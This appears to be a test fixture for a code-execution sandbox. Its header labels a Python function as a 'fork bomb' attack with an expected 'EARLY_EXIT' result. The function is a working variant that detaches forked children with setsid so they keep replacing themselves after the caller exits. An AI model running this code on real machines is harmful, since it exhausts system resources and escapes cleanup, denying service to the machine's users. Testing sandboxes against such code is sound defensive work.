# /// attack
# line = "fork bomb"
# expect = ["EARLY_EXIT"]
# [proof]
# output = "attack: leaves a family that replaces itself"
# ///
import os
import time


def f(x):
    if os.fork():
        time.sleep(0.2)
        print("attack: leaves a family that replaces itself", flush=True)
        os._exit(0)
    while True:  # each goes on as its own child
        try:
            if os.fork():
                os._exit(0)
            if not os.fork():
                os.setsid()
        except OSError:
            pass
